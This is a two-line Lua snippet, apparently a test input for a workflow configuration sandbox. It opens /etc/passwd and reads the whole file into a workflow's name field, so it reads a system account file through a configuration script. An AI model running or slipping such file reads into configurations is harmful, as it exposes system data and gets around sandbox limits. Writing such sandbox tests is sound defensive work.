local f = io.open("/etc/passwd")
workflow = { name = f:read("a") }
